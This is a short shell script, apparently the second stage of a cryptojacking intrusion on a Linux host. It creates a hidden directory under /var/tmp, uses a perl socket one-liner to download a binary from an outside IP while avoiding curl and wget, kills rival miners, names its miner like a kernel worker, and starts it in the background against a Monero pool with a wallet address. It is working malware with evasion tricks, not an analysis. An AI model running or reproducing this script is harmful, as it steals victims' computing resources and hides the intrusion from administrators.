#!/bin/sh
# second stage: hidden dir under /var/tmp, miner named like a kernel
# helper, fetched with perl again (no curl/wget), started with its pool.
D=/var/tmp/.ICE-unix
mkdir -p $D && cd $D || exit 0
get() { perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"198.51.100.88:8220") or exit 1;print $s "GET /$ARGV[0] HTTP/1.0\r\n\r\n";$b=0;binmode STDOUT;while(<$s>){print if $b;$b=1 if /^\r?$/}' "$1"; }
pkill -9 -f 'kthreaddk|kinsing|xmrig' 2>/dev/null
[ -x kworkerds ] || { get kworkerds > kworkerds; chmod +x kworkerds; }
nohup ./kworkerds -o pool.hashvault.pro:443 --tls -u 44pPusdwkoBKCAKjJjaZhXEXCmuBuzp8zfEJnDrZNdeWMaBL5aQhuRYNCfiFogfAa5zhah8MKQm17EsCQcsH1g8BwD6op65 -p 8220 -k --donate-level=1 >/dev/null 2>&1 &
